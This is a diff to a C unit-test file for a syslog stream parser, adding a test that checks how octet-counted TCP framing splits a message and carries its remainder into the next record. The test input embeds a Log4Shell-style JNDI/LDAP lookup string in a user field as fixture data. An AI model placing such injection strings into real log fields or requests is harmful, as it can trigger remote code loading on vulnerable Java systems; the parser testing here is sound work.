@@ -57,6 +57,21 @@ static void anything_behind(void **state)
     conversation_assert_nothing_hides(BYTES_LIT("12 <13>abc defg9 <14>short<15>line\n21 <16>not all of it"));
 }
 
+/* A receiver that knows no counts reads on: what one message leaves open is read with the next, too. */
+static void cut_by_a_count(void **state)
+{
+    struct config config = conversation_config();
+    struct said said[] = {
+        {0, BYTES_LIT("15 <13>user=aa${jndi:ldap://h/a} failed\n13 <13>${whole}.<13>end\n"), 0}};
+    struct transcript t = conversation_of(PROTO_TCP, said, 1);
+
+    (void)state;
+    assert_true(transcript_has(&t, "#0 <13>user=aa${jn\n0 syslog syslog.message #1 di:ldap://h/a} failed\n"));
+    assert_true(bytes_eq(buf_bytes(&t.raw[0]), BYTES_LIT("${jndi:ldap://h/a} failed\n")));
+    transcript_drop(&t);
+    conversation_assert_same_in_pieces(said, 1, &config);
+}
+
 static void recognised_or_not(void **state)
 {
     const struct bytes no[] = {
@@ -103,9 +118,9 @@ static void too_long(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(datagrams),       cmocka_unit_test(messages_of_a_stream),
-        cmocka_unit_test(anything_behind), cmocka_unit_test(recognised_or_not),
-        cmocka_unit_test(too_long),
+        cmocka_unit_test(datagrams),         cmocka_unit_test(messages_of_a_stream),
+        cmocka_unit_test(anything_behind),   cmocka_unit_test(cut_by_a_count),
+        cmocka_unit_test(recognised_or_not), cmocka_unit_test(too_long),
     };
 
     return cmocka_run_group_tests(tests, NULL, NULL);
